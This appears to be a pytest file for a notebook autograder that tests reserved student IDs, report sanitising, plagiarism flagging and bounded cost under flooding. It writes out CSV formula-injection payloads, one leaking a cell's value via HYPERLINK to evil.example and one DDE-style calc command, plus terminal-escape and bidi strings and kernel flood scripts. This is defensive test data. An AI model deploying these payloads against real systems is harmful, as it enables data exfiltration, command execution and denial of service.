"""The integrity of what grading reports (issue 31): reserved names, what a student writes into
the reports, copies, and floods of the grader itself.

Everything here is quick: no lab is graded in a kernel (``run_pool`` is replaced where a whole
run is needed), except the flood tests, which start one bare kernel each, bounded in time.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from autograder import ROOT, grade, runner

LAB = "lab01_basics"
RELEASE = ROOT / "labs" / LAB / f"{LAB}.ipynb"
SOURCE = ROOT / "solutions"


# ---------------------------------------------------------------------------------------
# (4) reserved names
# ---------------------------------------------------------------------------------------
def _fake_pool(ran: list):
    """A run_pool that grades nothing: a job for the lab's source scores full marks, any other
    none; every job is recorded."""

    def run_pool(jobs, cfg, n, logs, on_result):
        for job in jobs:
            ran.append(job)
            from_source = Path(job.notebook).resolve().is_relative_to(SOURCE.resolve())
            info = grade.lab_info(SOURCE / job.lab / f"{job.lab}.ipynb", job.lab)
            scores = {g: (p if from_source else 0.0) for g, p in info.cells.items()}
            on_result(job, {"student": job.student, "lab": job.lab, "status": "graded",
                            "reason": "", "isolation": "fake", "ran_all_cells": False,
                            "scores": scores}, 0.0)

    return run_pool


@pytest.mark.parametrize("include_solutions", [False, True])
def test_a_student_id_the_grader_uses_is_graded_as_that_student(tmp_path, monkeypatch,
                                                                include_solutions):
    subs = tmp_path / "subs"
    for student in ("reference", "Reference", "alice"):
        (subs / student / LAB).mkdir(parents=True)
        shutil.copyfile(RELEASE, subs / student / LAB / f"{LAB}.ipynb")
    ran: list = []
    monkeypatch.setattr(runner, "run_pool", _fake_pool(ran))
    rc = grade.main([str(subs), "--lab", LAB, "--unsandboxed", "--out", str(tmp_path / "out"),
                     "--work", str(tmp_path / "work"), "--compile-cache", str(tmp_path / "cc"),
                     *(["--include-solutions"] if include_solutions else [])])
    assert rc == 0
    rows = {r["student"]: r for r in json.loads((tmp_path / "out" / "results.json").read_text())}
    for student in ("reference", "Reference", "alice"):  # a blank notebook: 0, its own run
        assert rows[student]["total"] == 0, (student, rows[student])
        assert any(j.student == student and Path(j.notebook) ==
                   subs / student / LAB / f"{LAB}.ipynb" for j in ran), student
    graders = set(rows) - {"reference", "Reference", "alice"}
    assert len(graders) == int(include_solutions)
    for name in graders:  # the grader's own row: full marks, a name no student can have
        assert rows[name]["total"] == rows[name]["max_score"] > 0
        assert not grade.STUDENT_RE.match(name)
    dirs = [j.dir for j in ran]
    assert len(dirs) == len(set(dirs)), "two jobs shared a work folder"


# ---------------------------------------------------------------------------------------
# (5) reports a student writes into
# ---------------------------------------------------------------------------------------
HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)", "\tTab=1", "\r=1", "\x1b[2J\x1b[31mred\x1b]0;title\x07",
                 "bidi \u202eevil\u202c end", "nul\x00 del\x7f c1\x9b"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = tuple("=+-@\t\r")


def _lab_info():
    return grade.lab_info(SOURCE / LAB / f"{LAB}.ipynb", LAB)


def _hostile_results(info):
    cells = list(info.cells)
    out = []
    for k, text in enumerate(HOSTILE_TEXTS):
        out.append({"student": f"s{k}", "lab": LAB, "status": "graded", "reason": text,
                    "isolation": text, "ran_all_cells": True,
                    "scores": dict.fromkeys(cells, 0.0),
                    "messages": dict.fromkeys(cells, f"{text} (the check's message)"),
                    "review": [text]})
    return out


def test_no_csv_cell_is_a_formula_and_nothing_printed_holds_control_characters(tmp_path,
                                                                                capsys):
    info = _lab_info()
    text = grade.write_outputs(tmp_path / "out", _hostile_results(info), {LAB: info}, {}, {})
    csvs = sorted((tmp_path / "out").glob("*.csv"))
    assert {p.name for p in csvs} >= {f"grades-{LAB}.csv", f"class-summary-{LAB}.csv",
                                      "grades.csv"}
    for path in csvs:
        with open(path, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(FORMULA) or re.fullmatch(r"-?\d+(\.\d+)?", cell), \
                        (path.name, cell)
                    assert not CONTROL.search(cell), (path.name, cell)
    with open(tmp_path / "out" / f"grades-{LAB}.csv", newline="") as f:
        reasons = [r["reason"] for r in csv.DictReader(f)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in reasons  # kept, readable
    for shown in (text, (tmp_path / "out" / "summary.txt").read_text()):
        assert not CONTROL.search(shown), repr(CONTROL.search(shown))
    progress = grade.Progress(1)
    progress.update(_hostile_results(info)[6] | {"student": "x\x1b[2Jy"}, 1.0)
    progress.close()
    printed = capsys.readouterr()
    assert not CONTROL.search(printed.out + printed.err), repr(printed.out + printed.err)


def test_what_a_submission_wrote_to_its_logs_is_copied_capped(tmp_path):
    info = _lab_info()
    work = tmp_path / "work"
    work.mkdir()
    log = work / "kernel.log"
    with open(log, "wb") as f:  # a sparse 300 MiB file: cheap to make, costly to copy whole
        f.write(b"\x1b[2J start of the kernel's log\n")
        f.truncate(300 << 20)
    results = [{"student": "alice", "lab": LAB, "status": "graded", "reason": "",
                "scores": dict.fromkeys(info.cells, 0.0)}]
    grade.write_outputs(tmp_path / "out", results, {LAB: info},
                        {(LAB, "alice"): {"log": log, "grader": work / "absent"}}, {})
    copied = tmp_path / "out" / "logs" / "alice" / f"{LAB}.log"
    assert copied.stat().st_size <= grade.LOG_COPY_BYTES + 4096
    assert b"start of the kernel's log" in copied.read_bytes()[:200]
    assert b"bytes of this log were not copied" in copied.read_bytes()


# ---------------------------------------------------------------------------------------
# (3) copies
# ---------------------------------------------------------------------------------------
def _task_code(nb) -> dict[str, str]:
    from autograder.similarity import TASK_CELL

    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in nb.cells
            if TASK_CELL.match(c.get("metadata", {}).get("nbgrader", {}).get("grade_id", ""))}


def _similarity_run(tmp_path, lab="lab02_save_policy"):
    """write_outputs over the corpus's submissions of ``lab`` and issue 31's copies, as a run
    (and a merge) would see them: results with their task code."""
    import nbformat

    from autograder.lab_examples import copies as attacks_issue31

    info = grade.lab_info(SOURCE / lab / f"{lab}.ipynb", lab)
    release = nbformat.read(ROOT / "labs" / lab / f"{lab}.ipynb", as_version=4)
    source = nbformat.read(SOURCE / lab / f"{lab}.ipynb", as_version=4)
    nbs = {p.parent.parent.name: nbformat.read(p, as_version=4)
           for p in sorted((ROOT / "autograder" / "examples").glob(f"*/{lab}/{lab}.ipynb"))}
    nbs |= {name: make(release, source)
            for name, make in attacks_issue31.EXAMPLES[lab].items()}
    nbs[grade.REFERENCE_STUDENT] = source
    results = [{"student": s, "lab": lab, "status": "graded", "reason": "",
                "scores": dict.fromkeys(info.cells, 0.0), "code": _task_code(nb),
                "review": ["something else"]} for s, nb in nbs.items()]
    grade.write_outputs(tmp_path / "out", results, {lab: info}, {}, {})
    rows = {r["student"]: r for r in json.loads((tmp_path / "out" / "results.json").read_text())}
    return rows, info


def _scores(tmp_path, lab):
    with open(tmp_path / "out" / f"similarity-{lab}.csv", newline="") as f:
        return list(csv.DictReader(f))


def test_copies_of_minickpt_and_of_each_other_are_flagged_natural_answers_are_not(tmp_path):
    lab = "lab02_save_policy"
    rows, _ = _similarity_run(tmp_path, lab)
    flags = {s: [f for f in r["review"] if f.startswith("similar to")] for s, r in rows.items()}
    for s in ("perfect", "copy_renamed", "copy_twin"):
        assert any(f.startswith("similar to minickpt's own code: ") for f in flags[s]), \
            (s, flags[s])
    assert any("copy_twin's submission: 100%" in f for f in flags["copy_renamed"])
    assert any("copy_renamed's submission: 100%" in f for f in flags["copy_twin"])
    for s in ("natural_a", "natural_b", "blank"):
        assert not flags[s], (s, flags[s])
    assert not flags[grade.REFERENCE_STUDENT], "the source is minickpt: never compared"
    assert all("something else" in r["review"] for r in rows.values())
    page = (tmp_path / "out" / f"similarity-{lab}.html").read_text()
    assert "copy_renamed" in page and "class='hl'" in page and "my_" in page
    scores = _scores(tmp_path, lab)
    natural = [r for r in scores if {r["student"], r["other"]} == {"natural_a", "natural_b"}]
    assert all(r["flagged"] == "0" for r in natural)
    # the figures of issue 31's report
    print({(r["student"], r["other"]): (r["score"], r["shared_tokens"]) for r in scores
           if r["student"] in ("perfect", "partial", "copy_renamed", "natural_a", "natural_b")
           and r["other"] in ("minickpt", "copy_twin", "natural_b", "natural_a", "perfect")})


def test_the_similarity_report_is_the_same_in_every_process_and_after_a_merge(tmp_path):
    """copydetect hashes with Python's hash(), which every process seeds anew; the report's
    bytes must not depend on it (a merge recomputes it from results.json)."""
    import subprocess
    import sys

    code = ("import sys; from pathlib import Path; import tests.test_grading_integrity as t;"
            "t._similarity_run(Path(sys.argv[1]))")
    for seed, d in (("1", "a"), ("2", "b")):
        subprocess.run([sys.executable, "-c", code, str(tmp_path / d)], check=True, cwd=ROOT,
                       env={**__import__("os").environ, "PYTHONHASHSEED": seed}, timeout=120)
    for name in ("similarity-lab02_save_policy.csv", "similarity-lab02_save_policy.html",
                 "results.json"):
        assert (tmp_path / "a" / "out" / name).read_bytes() == \
            (tmp_path / "b" / "out" / name).read_bytes(), name
    proc = subprocess.run([sys.executable, "-m", "autograder.grade", "merge",
                           str(tmp_path / "a" / "out"), "--out", str(tmp_path / "m")],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    for name in ("similarity-lab02_save_policy.csv", "results.json", f"grades-{LAB}.csv"
                 .replace(LAB, "lab02_save_policy")):
        assert (tmp_path / "m" / name).read_bytes() == (tmp_path / "a" / "out" / name
                                                        ).read_bytes(), name


# ---------------------------------------------------------------------------------------
# (6) floods of the grader itself
# ---------------------------------------------------------------------------------------
FLOOD_MB = 200
FLOOD = f'''
import os, sys
k = get_ipython().kernel
parent = k.get_parent("shell")
chunk = "x" * (4 << 20)
for i in range({FLOOD_MB} // 4):   # display metadata, an error's ename, transient, unknown types
    k.session.send(k.iopub_socket, "display_data", {{"data": {{"text/plain": "a"}},
                   "metadata": {{"m": chunk}}, "transient": {{}}}}, parent=parent)
    k.session.send(k.iopub_socket, "error", {{"ename": chunk, "evalue": "e",
                   "traceback": []}}, parent=parent)
    k.session.send(k.iopub_socket, "execute_result", {{"data": {{}}, "metadata": {{}},
                   "execution_count": chunk}}, parent=parent)
    k.session.send(k.iopub_socket, "made_up", {{"x": chunk}}, parent=parent)
    k.session.send(k.stdin_socket, "input_request", {{"prompt": chunk, "password": False}},
                   parent=parent, ident=k._parent_ident["shell"])
print("flood done")
'''
FLOOD_LOG = f'''
import os, sys
big = b"y" * (8 << 20)
fds = {{1, 2}} | {{getattr(s, "_original_stdstream_copy", None) for s in (sys.stdout, sys.stderr)}}
for i in range({FLOOD_MB} // 8):   # the kernel's own stdout/stderr as it was given: the log
    for fd in fds:
        if fd is not None:
            os.write(fd, big)
print("log flood done")
'''


def _rss_kib() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


@pytest.mark.timeout(300)
def test_a_kernel_that_floods_every_channel_costs_the_grader_bounded_memory_and_disk(tmp_path):
    import asyncio
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-c", "import tests.test_grading_integrity as t, "
                           "sys, json; print(json.dumps(t._flood(sys.argv[1])))",
                           str(tmp_path)], cwd=ROOT, capture_output=True, text=True,
                          timeout=280)
    assert proc.returncode == 0, proc.stderr[-3000:]
    got = json.loads(proc.stdout.strip().splitlines()[-1])
    print(got)
    assert got["kernel_log"] <= runner.KERNEL_LOG_BYTES + 4096, got
    assert got["notebook"] <= 8 << 20, got
    assert got["grew_mib"] <= 512, got
    assert got["errors"] >= 1, "the errors were not all dropped: the cell still failed"
    assert got["log_flood_ran"], got
    del asyncio


def _flood(tmp: str) -> dict[str, int]:
    """Run :data:`FLOOD` in one bare unsandboxed kernel, as runner does; what it cost."""
    import asyncio
    import os

    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from autograder import execute, sandbox

    tmp_path = Path(tmp)
    ipc = tmp_path / "ipc"
    ipc.mkdir()
    iso = sandbox.unsandboxed("test")
    km = sandbox.make_kernel_manager(iso, uid=0, ipc_dir=str(ipc), cwd=str(tmp_path),
                                     limits=sandbox.Limits(), extra_ro={},
                                     kernel_args=runner.KERNEL_ARGS,
                                     max_message_bytes=32 << 20)
    nb = new_notebook(cells=[new_code_cell(FLOOD, metadata={"minickpt": {"role": "student"}}),
                             new_code_cell(FLOOD_LOG), new_code_cell("print('after')")])
    client = execute.GradingClient(nb, km, timeout=120, setup_timeout=120,
                                   keep_output_bytes=1 << 20, max_output_bytes=64 << 20,
                                   interrupt_grace=10, reap_uid=None)
    before = _rss_kib()
    log = tmp_path / "kernel.log"
    runner.run_client(client, log, env=dict(os.environ), cwd=str(tmp_path))
    km.context.destroy(linger=0)
    nbformat.write(nb, tmp_path / "graded.ipynb")
    del asyncio
    return {"kernel_log": log.stat().st_size, "notebook": (tmp_path / "graded.ipynb").stat().st_size,
            "grew_mib": (_rss_kib() - before) >> 10,
            "errors": sum(o.get("output_type") == "error" for o in nb.cells[0].outputs),
            "log_flood_ran": "log flood done" in json.dumps(nb.cells[1].outputs)}


@pytest.mark.parametrize("lab", sorted(__import__(
    "autograder.lab_examples.independent", fromlist=["EXAMPLES"]).EXAMPLES))
def test_an_independently_written_partial_is_not_flagged_but_perfect_is(lab):
    """``partial`` of the labs in lab_examples/independent.py was written from the released lab
    alone: honest work, under the threshold against minickpt; ``perfect`` (minickpt) above."""
    import nbformat

    from autograder import similarity

    info = grade.lab_info(SOURCE / lab / f"{lab}.ipynb", lab)
    students = {s: _task_code(nbformat.read(ROOT / "autograder" / "examples" / s / lab /
                                            f"{lab}.ipynb", as_version=4))
                for s in ("partial", "perfect")}
    matches, _ = similarity.compare(info.tasks, students)
    vs_lib = {m.student: m for m in matches if m.other == similarity.MINICKPT}
    assert vs_lib["perfect"].flagged
    assert "partial" not in vs_lib or not vs_lib["partial"].flagged, vs_lib["partial"].score
    assert all(not m.flagged for m in matches if "partial" in (m.student, m.other))
